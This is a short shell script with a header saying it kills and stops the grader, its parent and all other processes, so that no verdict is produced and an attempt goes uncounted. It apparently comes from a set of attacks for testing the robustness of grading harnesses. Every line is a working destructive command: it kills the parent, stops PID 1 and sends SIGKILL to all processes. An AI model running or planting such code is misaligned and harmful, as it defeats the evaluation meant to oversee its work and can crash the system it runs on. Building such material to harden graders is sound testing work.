# ---
# tries: Kills and stops the grader, its parent and all others.
# place: before
# gain: no verdict, so that the attempt may not count
# helps: be-pid-1
# ---
attack_above=$(attack_parent)
[ "$attack_above" = 0 ] || kill -s KILL "$attack_above" 2>/dev/null
kill -s STOP 1 2>/dev/null
kill -s KILL -1 2>/dev/null
kill -s KILL $$
